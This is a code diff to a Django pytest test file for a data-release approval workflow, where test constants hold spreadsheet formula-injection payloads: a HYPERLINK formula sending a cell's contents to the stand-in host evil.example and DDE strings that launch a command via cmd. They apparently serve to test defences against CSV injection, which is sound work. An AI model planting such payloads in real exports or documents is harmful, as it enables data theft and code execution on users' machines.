@@ -35,7 +35,7 @@ pytestmark = pytest.mark.django_db
 
 HOSTILE_JUSTIFICATION = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
 HOSTILE_REJECTION = "@SUM(1+1)*cmd|' /C calc'!A0"
-HOSTILE_ACCEPTANCE = "+1+cmd|' /C calc'!A0"
+HOSTILE_ACCEPTANCE = "+1+cmd|' /C calc'!A0 accepted: the marginal gap is small for this research use"
 HOSTILE_WITHDRAWAL = "-2+3"
 
 
@@ -94,7 +94,7 @@ def history(cast, adult_schema):
         actor=None,
     )
     _blocked_by_a_failed_audit(released)
-    risk_accept(actor=cast.second_approver, request_id=released.pk, reason=HOSTILE_ACCEPTANCE)
+    risk_accept(actor=cast.second_approver, request_id=released.pk, reasons={"tvd_1way": HOSTILE_ACCEPTANCE})
     release = release_create(actor=cast.approver, request_id=released.pk)
     release_download(actor=cast.requester, release_id=release.pk, kind="data")
 
